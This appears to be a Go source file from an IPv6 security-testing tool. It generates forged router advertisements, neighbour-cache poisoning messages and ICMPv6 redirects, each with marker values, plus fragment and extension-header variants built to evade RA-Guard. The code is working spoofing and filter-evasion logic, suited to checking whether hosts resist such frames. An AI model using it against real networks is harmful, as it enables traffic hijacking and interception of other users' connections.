package attack

import (
	"fmt"
	"net/netip"
	"slices"

	"github.com/sixfence/sixfence/internal/logic/ndisc"
)

// A Forgery is a message that ought to change nothing, and that shows by what it changes
// that it did: everything in it has the number of its shot.
type Forgery struct {
	Shot
	Rogue  Peer         // who sends it
	Prefix netip.Prefix // that it announces
	Far    netip.Addr   // where a redirect leads elsewhere from
}

// RogueOf is the rogue of a shot.
func RogueOf(id uint32) Peer {
	m := ndisc.MAC{0x02, 0x51, 0xfe, 0x66, byte(id >> 8), byte(id)}
	return Peer{MAC: m, LL: netip.AddrFrom16([16]byte{0: 0xfe, 1: 0x80, 10: 0x51, 11: 0xfe, 12: 0x0b, 13: 0xad, 14: byte(id >> 8), 15: byte(id)})}
}

// announced is the prefix of a shot.
func announced(id uint32) netip.Prefix {
	return netip.PrefixFrom(netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, 0x51, 0xfe, 0xb0 | byte(id>>8), byte(id)}), 64)
}

// advertisement is an RA whose every member has the number of its shot: the MTU and the hop
// limit are values that no host has by chance.
func advertisement(id uint32) ndisc.RA {
	return ndisc.RA{HopLimit: byte(70 + id%180), Preference: 1, Lifetime: 1800, Reachable: 17000 + id, Retrans: 1700 + id, Options: [][]byte{
		ndisc.PrefixInfo(announced(id), 86400, 14400), ndisc.MTUOption(1281 + id%190), ndisc.RDNSS(1800, netip.MustParseAddr("2001:db8:51fe::53")),
	}}
}

// variant is a way to send a message (RFC 6980, RFC 7113).
type variant struct {
	name   string
	frames func(f ndisc.Frame) [][]byte
}

// variants are the ways. A frame comes with its message in it.
func variants() []variant {
	with := func(types ...uint8) func(ndisc.Frame) [][]byte {
		return func(f ndisc.Frame) [][]byte {
			for _, t := range types {
				f.Ext = append(f.Ext, ndisc.Ext{Type: t})
			}
			return one(f)
		}
	}
	fragment := func(more ...ndisc.Ext) func(ndisc.Frame) [][]byte {
		return func(f ndisc.Frame) [][]byte {
			f.Ext = append(f.Ext, more...)
			return f.Fragments(f.FlowLabel, 16)
		}
	}
	long := append([]byte{3, 1, 28}, make([]byte, 28)...)
	// behind puts destination options of 32 bytes between, of which a fragment cuts.
	behind := func(at int) func(ndisc.Frame) [][]byte {
		return func(f ndisc.Frame) [][]byte {
			return f.Raw(ndisc.HdrDestOpts, append(append([]byte{f.Proto}, long...), f.Payload...)).Fragments(f.FlowLabel, at)
		}
	}
	atomic := ndisc.Ext{Type: ndisc.HdrFragment, Body: []byte{0, 0, 0, 0, 0, 0, 9}}
	return []variant{
		{"plain", with()},
		{"hop-by-hop", with(ndisc.HdrHopByHop)},
		{"destination options", with(ndisc.HdrDestOpts)},
		{"hop-by-hop and destination options", with(ndisc.HdrHopByHop, ndisc.HdrDestOpts)},
		{"five destination options", with(ndisc.HdrDestOpts, ndisc.HdrDestOpts, ndisc.HdrDestOpts, ndisc.HdrDestOpts, ndisc.HdrDestOpts)},
		{"routing header 0", func(f ndisc.Frame) [][]byte {
			f.Ext = []ndisc.Ext{{Type: ndisc.HdrRouting, Body: []byte{0, 0, 0, 0, 0, 0, 0}}}
			return one(f)
		}},
		{"atomic fragment", func(f ndisc.Frame) [][]byte { f.Ext = []ndisc.Ext{atomic}; return one(f) }},
		{"hop-by-hop and atomic fragment", func(f ndisc.Frame) [][]byte {
			f.Ext = []ndisc.Ext{{Type: ndisc.HdrHopByHop}, atomic}
			return one(f)
		}},
		{"two fragments", fragment()},
		{"two fragments, reversed", func(f ndisc.Frame) [][]byte {
			p := f.Fragments(f.FlowLabel, 16)
			return [][]byte{p[1], p[0]}
		}},
		{"hop-by-hop and two fragments", fragment(ndisc.Ext{Type: ndisc.HdrHopByHop})},
		{"overlapping fragments", func(f ndisc.Frame) [][]byte {
			a, b := f.Fragments(f.FlowLabel, 24), f.Fragments(f.FlowLabel, 16)
			return [][]byte{a[0], b[1]}
		}},
		{"ICMPv6 in the second fragment", behind(32)},
		{"extension header split", behind(16)},
		{"ICMPv6 header split", func(f ndisc.Frame) [][]byte { return f.Fragments(f.FlowLabel, 8) }},
		{"hop limit 254", func(f ndisc.Frame) [][]byte { f.HopLimit = 254; return one(f) }},
	}
}

// forge makes one forgery for each way to send it.
func forge(first uint32, group, lead string, make func(id uint32, rogue Peer) ndisc.Frame) (out []Forgery) {
	for _, v := range variants() {
		x := Forgery{Shot: Shot{ID: first + uint32(len(out)), Group: group, Name: lead + ": " + v.name}}
		x.Rogue, x.Prefix = RogueOf(x.ID), announced(x.ID)
		f := make(x.ID, x.Rogue)
		f.FlowLabel = x.ID
		x.Frames = v.frames(f)
		out = append(out, x)
	}
	return out
}

// RouterAdvertisement is the router's own.
func RouterAdvertisement(r Range, id uint32) Forgery {
	f := Forgery{Shot: Shot{ID: id, Group: "router advertisements", Name: "the router's own advertisement"}, Rogue: r.Router, Prefix: announced(id)}
	ra := ndisc.RA{HopLimit: 64, Lifetime: 1800, Options: [][]byte{ndisc.PrefixInfo(f.Prefix, 86400, 14400)}}
	f.Frames = one(ndisc.Frame{SrcMAC: r.Router.MAC, Src: r.Router.LL, Dst: ndisc.AllNodes, FlowLabel: id}.RA(ra))
	return f
}

// Advertisements are forged router advertisements: of somebody who is no router, and, where
// one is known, in the router's name.
func Advertisements(r Range, first uint32) []Forgery {
	const group = "router advertisements"
	out := forge(first, group, "of a rogue", func(id uint32, rogue Peer) ndisc.Frame {
		return ndisc.Frame{SrcMAC: rogue.MAC, Src: rogue.LL, Dst: ndisc.AllNodes}.RA(advertisement(id))
	})
	add := func(name string, f func(id uint32, rogue Peer) ndisc.Frame) {
		x := Forgery{Shot: Shot{ID: first + uint32(len(out)), Group: group, Name: name}}
		x.Rogue, x.Prefix = RogueOf(x.ID), announced(x.ID)
		g := f(x.ID, x.Rogue)
		g.FlowLabel = x.ID
		x.Frames = one(g)
		out = append(out, x)
	}
	add("of a rogue: to this host alone", func(id uint32, rogue Peer) ndisc.Frame {
		return ndisc.Frame{SrcMAC: rogue.MAC, DstMAC: r.Host.MAC, Src: rogue.LL, Dst: r.Host.LL}.RA(advertisement(id))
	})
	add("of a rogue: without its MAC address", func(id uint32, rogue Peer) ndisc.Frame {
		ra := advertisement(id)
		ra.WithoutSourceLL = true
		return ndisc.Frame{SrcMAC: rogue.MAC, Src: rogue.LL, Dst: ndisc.AllNodes}.RA(ra)
	})
	add("of a rogue: from a global address", func(id uint32, rogue Peer) ndisc.Frame {
		a := announced(id).Addr().As16()
		a[15] = 0x66
		return ndisc.Frame{SrcMAC: rogue.MAC, Src: netip.AddrFrom16(a), Dst: ndisc.AllNodes}.RA(advertisement(id))
	})
	if r.Router.LL.IsValid() {
		more := forge(first+uint32(len(out)), group, "in the router's name", func(id uint32, rogue Peer) ndisc.Frame {
			return ndisc.Frame{SrcMAC: rogue.MAC, Src: r.Router.LL, Dst: ndisc.AllNodes}.RA(advertisement(id))
		})
		out = append(out, more...)
		add("in the router's name: it is no router any more", func(_ uint32, rogue Peer) ndisc.Frame {
			return ndisc.Frame{SrcMAC: rogue.MAC, Src: r.Router.LL, Dst: ndisc.AllNodes}.RA(ndisc.RA{WithoutSourceLL: true})
		})
	}
	return out
}

// nothing is an option that nobody knows, and everybody skips: it makes a message long
// enough for fragments.
var nothing = []byte{253, 1, 0, 0, 0, 0, 0, 0}

// Entries are messages that give the router another MAC address.
func Entries(r Range, first uint32) (out []Forgery) {
	const group = "neighbour entries"
	next := func() uint32 { return first + uint32(len(out)) }
	gw := r.Router.LL
	for _, m := range []struct {
		name  string
		flags uint8
	}{{"unsolicited advertisement", ndisc.NARouter | ndisc.NAOverride}, {"advertisement as if asked for", ndisc.NARouter | ndisc.NAOverride | ndisc.NASolicited}} {
		out = append(out, forge(next(), group, m.name, func(_ uint32, rogue Peer) ndisc.Frame {
			return ndisc.Frame{SrcMAC: rogue.MAC, DstMAC: r.Host.MAC, Src: gw, Dst: r.Host.LL}.NA(gw, m.flags, rogue.MAC)
		})...)
	}
	out = append(out, forge(next(), group, "solicitation", func(_ uint32, rogue Peer) ndisc.Frame {
		return ndisc.Frame{SrcMAC: rogue.MAC, DstMAC: r.Host.MAC, Src: gw, Dst: r.Host.LL}.NS(r.Host.LL, rogue.MAC)
	})...)
	out = append(out, forge(next(), group, "router solicitation", func(_ uint32, rogue Peer) ndisc.Frame {
		return ndisc.Frame{SrcMAC: rogue.MAC, DstMAC: r.Host.MAC, Src: gw, Dst: r.Host.LL}.ICMPv6(133, 0, slices.Concat([]byte{0, 0, 0, 0}, ndisc.SourceLinkLayer(rogue.MAC), nothing, nothing))
	})...)
	return out
}

// Redirects lead to a rogue what goes to the router, each for another destination.
func Redirects(r Range, first uint32) (out []Forgery) {
	const group = "redirects"
	far := func(id uint32) netip.Addr {
		return netip.MustParseAddr(fmt.Sprintf("2600:51fe:%x::1", id))
	}
	for _, m := range []struct {
		name string
		own  bool
	}{{"in the router's name", false}, {"of a rogue", true}} {
		out = append(out, forge(first+uint32(len(out)), group, m.name, func(id uint32, rogue Peer) ndisc.Frame {
			f := ndisc.Frame{SrcMAC: rogue.MAC, DstMAC: r.Host.MAC, Src: r.Router.LL, Dst: r.Host.LL}
			if m.own {
				f.Src = rogue.LL
			}
			return f.Redirect(rogue.LL, far(id), rogue.MAC)
		})...)
	}
	for i := range out {
		out[i].Far = far(out[i].ID)
	}
	return out
}
